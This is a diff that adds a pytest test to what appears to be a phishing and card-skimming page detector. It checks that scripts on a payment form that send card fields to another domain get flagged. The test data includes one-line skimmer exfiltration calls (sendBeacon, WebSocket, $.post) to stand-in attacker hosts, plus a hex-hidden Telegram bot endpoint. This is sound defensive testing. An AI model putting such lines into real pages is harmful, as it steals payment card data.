@@ -282,6 +282,31 @@ def test_markup_hidden_in_encoded_strings(script: str, kinds: int, decoded: int)
     assert ("leobank" in feats.hidden_text) == bool(decoded)
 
 
+@pytest.mark.parametrize(
+    ("script", "sends"),
+    [
+        ("navigator.sendBeacon('//pb-verify.cc/in.php', data);", True),
+        ('var s = new WebSocket("wss://leo-support.live/ws");', True),
+        ("$.post('https://panel.example.net/step2.php', d);", True),
+        # the page's own domain, a listed brand's host and a messenger endpoint do not count
+        ("fetch('https://api.pay-example.top/save', {method: 'POST'});", False),
+        ("fetch('https://rest-pg.goldenpay.az/web/pay');", False),
+        ("fetch('https://api.telegram.org/bot1:x/sendMessage');", False),
+    ],
+)
+def test_a_script_sending_secrets_to_another_domain(
+    engine: Engine, script: str, sends: bool
+) -> None:
+    html = f"<form><input name=cvv><input name=pan></form><script>{script}</script>"
+    verdict = engine.detector("page").analyze(PageInput(html, "https://pay-example.top/"))
+    assert ("page.script.offsite_sensitive" in [r.code for r in verdict.reasons]) == sends
+    # without a secret field, sending data elsewhere is what many pages do
+    plain = engine.detector("page").analyze(
+        PageInput(f"<input name=q><script>{script}</script>", "https://pay-example.top/")
+    )
+    assert "page.script.offsite_sensitive" not in [r.code for r in plain.reasons]
+
+
 def test_a_messenger_address_hidden_by_hex_escapes(engine: Engine) -> None:
     hidden = "".join(f"\\x{ord(c):02x}" for c in "https://api.telegram.org/bot123:abc/sendMessage")
     html = f'<form><input name=cvv></form><script>var u = "{hidden}"; fetch(u);</script>'
